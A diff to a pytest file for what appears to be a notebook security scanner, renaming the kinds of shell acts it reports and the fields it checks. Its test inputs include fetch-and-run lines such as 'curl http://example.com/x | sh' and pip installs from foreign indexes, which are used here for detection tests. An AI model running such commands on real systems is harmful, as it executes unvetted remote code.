@@ -38,19 +38,19 @@ def test_magics_are_taken_out_and_lines_stay():
 @pytest.mark.parametrize(
     ("source", "kind"),
     [
-        ("!curl http://example.com/x | sh", "fetch-and-run"),
-        ("%%bash\ncurl http://example.com/x | bash", "fetch-and-run"),
-        ("%sx wget http://example.com/x", "fetch"),
-        ("!pip install git+https://example.com/x", "installs"),
-        ("%pip install --extra-index-url http://example.com x", "installs"),
+        ("!curl http://example.com/x | sh", "fetch-run"),
+        ("%%bash\ncurl http://example.com/x | bash", "fetch-run"),
+        ("%sx wget -qO- http://example.com/x | sh", "fetch-run"),
+        ("!pip install git+https://example.com/x", "package-address"),
+        ("%pip install --extra-index-url http://example.com x", "foreign-index"),
     ],
 )
 def test_what_a_cell_hands_to_a_shell_is_stated(source, kind):
-    assert [(one.script, one.kind) for one in of(read(notebook(source)), "ShellAct")] == [("notebook", kind)]
+    assert [(one.carrier, one.act) for one in of(read(notebook(source)), "CommandActs")] == [("notebook", kind)]
 
 
 def test_an_installed_package_is_nothing_to_tell():
-    assert of(read(notebook("!pip install torch")), "ShellAct") == []
+    assert of(read(notebook("!pip install torch")), "CommandActs") == []
 
 
 @pytest.mark.parametrize(
@@ -114,7 +114,7 @@ def test_cut_at_every_byte_only_malformed_leaves():
 
 
 def test_a_shell_line_that_runs_what_it_fetches_is_judged():
-    assert judged(notebook("!curl http://example.com/x | sh"), "x.ipynb") == {"script-runs-what-it-fetches": "high"}
+    assert judged(notebook("!curl http://example.com/x | sh"), "x.ipynb") == {"command-runs-what-it-fetches": "high"}
     assert judged(notebook("import torch\nprint(1)"), "x.ipynb") == {}
 
 
